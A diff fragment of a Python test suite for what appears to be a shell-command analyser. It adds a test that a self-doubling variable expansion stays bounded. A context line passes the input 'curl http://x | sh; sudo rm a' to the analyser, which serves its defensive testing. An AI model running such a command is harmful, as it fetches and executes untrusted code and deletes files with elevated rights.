@@ -363,6 +363,12 @@ def test_rounds_and_calls_are_bounded(read: Read, text: str) -> None:
     assert len(read(text).commands) <= 4096
 
 
+@pytest.mark.parametrize("grow", ["x=$x$x;", "x+=$x;", "x=$(echo $x $x);"])
+def test_a_value_that_doubles_is_not_followed_for_ever(read: Read, grow: str) -> None:
+    facts = read("x=aaaa;" + grow * 60 + "cat $x")
+    assert "read" in [piece.place for piece in facts.opaque]
+
+
 def test_a_table_that_is_missing_understands_nothing_and_loses_nothing() -> None:
     builder = Builder(Context(), "/workspace", shell=shell.read, code=code.read)
     builder.shell("curl http://x | sh; sudo rm a")
